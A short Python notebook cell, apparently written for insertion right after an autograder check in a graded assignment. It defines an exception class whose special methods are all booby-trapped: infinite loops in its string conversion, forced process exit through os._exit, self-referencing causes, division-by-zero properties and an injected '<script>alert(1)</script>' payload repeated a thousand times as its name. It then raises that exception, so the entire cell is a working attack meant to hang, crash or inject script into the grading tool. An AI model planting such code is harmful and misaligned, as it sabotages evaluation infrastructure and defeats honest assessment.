# %% insert after check q2_1
import os,time
class M(type):
    def __repr__(c): raise SystemExit
    @property
    def __name__(c): return '<script>alert(1)</script>'*1000
    def __instancecheck__(c,o): return True
class E(Exception,metaclass=M):
    __module__=property(lambda s:1/0)
    def __str__(s):
        while True: pass
    __repr__=__str__
    @property
    def __traceback__(s): raise KeyboardInterrupt
    @property
    def __cause__(s): return s
    @property
    def __context__(s): return s
    @property
    def args(s): return 1/0
    def with_traceback(s,*a): return s
    @property
    def __class__(s): os._exit(7)
raise E('x')
